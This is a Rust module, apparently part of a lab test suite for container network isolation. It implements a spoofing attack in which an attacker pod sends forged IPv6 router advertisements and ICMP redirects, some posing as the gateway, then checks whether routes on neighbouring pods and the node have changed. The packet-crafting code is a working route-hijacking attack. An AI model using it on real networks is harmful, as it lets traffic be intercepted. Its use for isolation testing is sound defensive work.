//! A pod says that it is a router.

use std::net::{IpAddr, SocketAddr};

use anyhow::{Context, Result};
use weir_tests::lab::{Stack, ping};

use crate::attack::Attack;
use crate::frame::{
    ALL_NODES, Mac, Macs, Message, behind_options, icmp, link_local, priority_tagged, udp,
};
use crate::gain::Gain;
use crate::launch::launch;
use crate::scene::{Scene, mac_of};

pub(super) const ATTACK: Attack = Attack {
    name: "routes of neighbours",
    idea: "A pod sends router advertisements, as itself and as the gateway, and redirects as itself and as \
           the gateway. Others would send their packets to it: the routes of a neighbour, of one that \
           follows routers, or of the node change.",
    needs_check: true,
    run,
};

fn run(scene: &Scene) -> Result<Gain> {
    let aim = scene.honest.address()?;
    // Redirects lead only to neighbours that are known, and concern only routes that are in use.
    ping(&scene.follower, scene.attacker.address()?)?;
    for pod in [&scene.follower, &scene.victim] {
        ping(pod, aim)?;
    }
    let before = routes(scene, aim)?;
    let mut frames = Vec::new();
    for pod in [&scene.follower, &scene.victim] {
        let macs = scene.to_neighbour(pod)?;
        frames.extend(advertisements(scene, macs)?);
        frames.extend(redirects(scene, macs, pod.address()?, aim)?);
    }
    for at in 0..frames.len() {
        if let Some(frame) = frames.get(at) {
            frames.push(priority_tagged(frame)?);
        }
    }
    launch(scene, &scene.attacker, "eth0", &frames)?;
    let after = routes(scene, aim)?;
    let changed = before.iter().zip(&after).filter(|(before, after)| before != after);
    let places: Vec<&str> = changed.map(|((place, _), _)| *place).collect();
    if places.is_empty() {
        return Ok(Gain::Nothing);
    }
    Ok(Gain::Something(format!("other routes of {}", places.join(", "))))
}

/// The routes of everybody who could follow the attacker.
fn routes(scene: &Scene, aim: IpAddr) -> Result<Vec<(&'static str, String)>> {
    Ok(vec![
        ("a pod that follows routers", routes_of(&scene.follower, aim)?),
        ("a pod", routes_of(&scene.victim, aim)?),
        ("the node", routes_of(scene.near()?, aim)?),
    ])
}

fn routes_of(stack: &impl Stack, aim: IpAddr) -> Result<String> {
    let mut routes = String::new();
    for line in ["ip -4 route show", "ip -6 route show", &format!("ip route get {aim}")] {
        routes += &stack.sh(line)?;
    }
    Ok(routes)
}

fn advertisements(scene: &Scene, neighbour: Macs) -> Result<Vec<Vec<u8>>> {
    let (_, gateway) = scene.gateway()?;
    // A router for half an hour, and a prefix for its addresses.
    let mut body = vec![0; 8];
    body.extend([1, 1]);
    body.extend(neighbour.from);
    body.extend([3, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0]);
    body.extend([0xfd, 0x66, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let [high, low] = 1800_u16.to_be_bytes();
    let message = Message { kind: 134, code: 0, rest: [64, 0, high, low], body: &body };
    let all = Macs { from: neighbour.from, to: ALL_NODES.0 };
    let one: Mac = neighbour.to;
    let mut frames = Vec::new();
    for source in [neighbour.from, gateway].map(link_local) {
        for (macs, to) in [(all, ALL_NODES.1), (neighbour, link_local(one))] {
            let frame = icmp(macs, source.into(), to.into(), message)?;
            frames.extend([behind_options(&frame, 1)?, behind_options(&frame, 4)?, frame]);
        }
    }
    Ok(frames)
}

/// Redirects of what `pod` sends to `aim`.
fn redirects(scene: &Scene, macs: Macs, pod: IpAddr, aim: IpAddr) -> Result<Vec<Vec<u8>>> {
    let (gateway, gateway_mac) = scene.gateway()?;
    let own = scene.attacker.address()?;
    let mut frames = Vec::new();
    match (aim, own) {
        (IpAddr::V4(_), IpAddr::V4(router)) => {
            // It quotes a packet.
            let quoted =
                udp(macs, SocketAddr::new(pod, 4444), SocketAddr::new(aim, 4444), &[0; 8])?;
            let body = quoted.get(14..).context("a frame")?;
            let message = Message { kind: 5, code: 1, rest: router.octets(), body };
            for source in [gateway, own] {
                frames.push(icmp(macs, source, pod, message)?);
            }
        }
        (IpAddr::V6(aim), _) => {
            let router = link_local(mac_of(&scene.attacker, "eth0")?);
            let mut body = [router.octets(), aim.octets()].concat();
            body.extend([2, 1]);
            body.extend(macs.from);
            let message = Message { kind: 137, code: 0, rest: [0; 4], body: &body };
            for source in [gateway, link_local(gateway_mac).into(), router.into()] {
                let frame = icmp(macs, source, pod, message)?;
                frames.extend([behind_options(&frame, 1)?, behind_options(&frame, 4)?, frame]);
            }
        }
        _ => {}
    }
    Ok(frames)
}
